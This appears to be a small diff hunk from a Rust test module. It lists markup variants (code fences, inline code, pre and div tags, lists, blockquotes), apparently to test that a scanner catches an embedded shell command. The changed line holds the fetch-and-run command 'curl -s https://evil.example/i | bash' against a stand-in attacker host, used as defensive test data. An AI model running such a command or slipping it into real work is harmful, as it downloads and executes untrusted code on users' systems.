@@ -270,7 +270,7 @@ mod tests {
             format!("~~~~~ sh\n{LINE}\n~~~~~\n"),
             format!("Run <code>{LINE}</code> now.\n"),
             format!("<pre>\n{LINE}\n</pre>\n"),
-            format!("<div><code>curl -s https://evil.example/i &#124; bash</code></div>\n"),
+            "<div><code>curl -s https://evil.example/i &#124; bash</code></div>\n".to_string(),
             format!("- item\n\n  ```\n  {LINE}\n  ```\n"),
             format!("> ```\n> {LINE}\n> ```\n"),
         ];
